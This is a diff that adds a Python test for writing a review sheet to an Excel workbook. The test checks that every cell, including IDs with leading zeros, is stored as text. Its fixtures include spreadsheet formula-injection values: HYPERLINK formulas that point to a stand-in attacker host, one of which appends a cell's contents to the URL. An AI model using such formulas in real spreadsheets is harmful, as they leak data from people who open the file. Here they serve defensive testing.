@@ -236,6 +236,32 @@ def test_a_sheet_saved_as_an_excel_workbook_reads_as_its_csv_would(tmp_path: Pat
     assert changes.edits == [RecordEdit(id="a", field="summary", value="Robots, mostly.")]
 
 
+def test_a_workbook_sheet_holds_every_cell_as_text_and_reads_back_unchanged(tmp_path: Path) -> None:
+    import openpyxl
+
+    from augment_it.sheet import write_sheet_workbook
+
+    frame = pd.DataFrame({
+        "_id": ["8675309123456789", "0012"], "founded": ["2001-02-03", "1999-12-31"],
+        "summary": ['=HYPERLINK("https://evil.example")', "Berries."], "quality_score": [0.9, 0.4],
+        "_ai_status": ["ok", "ok"], "_reason": ["", ""],
+    })
+    path = str(tmp_path / "sheet.xlsx")
+    write_sheet_workbook(review_sheet(frame, ["summary"]), path)
+    untouched = read_edits(path, frame)
+    assert (untouched.reject_ids, untouched.edits, untouched.problems) == ([], [], [])
+    book = openpyxl.load_workbook(path)
+    cells = {c.value: c.data_type for row in book.active.iter_rows() for c in row if c.value is not None}
+    assert set(cells.values()) == {"s"} and "8675309123456789" in cells and "0012" in cells
+    rows = {row[0].value: row for row in book.active.iter_rows(min_row=2)}  # id, decision, founded, summary
+    rows["0012"][1].value = "reject"  # as a reviewer fills it in
+    rows["8675309123456789"][3].value = "Nothing to see."
+    book.save(path)
+    changes = read_edits(path, frame)
+    assert changes.reject_ids == ["0012"] and changes.problems == []
+    assert changes.edits == [RecordEdit(id="8675309123456789", field="summary", value="Nothing to see.")]
+
+
 def test_an_answer_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(frame: pd.DataFrame) -> None:
     leak = '=HYPERLINK("https://evil.example/?"&C2,"details")'
     frame.loc[frame["_id"] == "a", "summary"] = leak
